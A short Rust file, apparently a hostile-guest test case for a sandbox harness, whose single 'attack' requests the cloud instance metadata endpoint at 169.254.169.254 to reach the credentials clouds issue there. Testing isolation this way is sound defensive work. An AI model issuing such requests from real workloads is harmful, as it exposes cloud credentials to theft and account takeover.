//! Asks the address from which clouds give out their own credentials.

use hostile_guests::{Request, Told, attack};

attack!(run);

fn run(_: String) -> Told {
    Request::get().to("169.254.169.254").at("/latest/meta-data/").outcome()
}
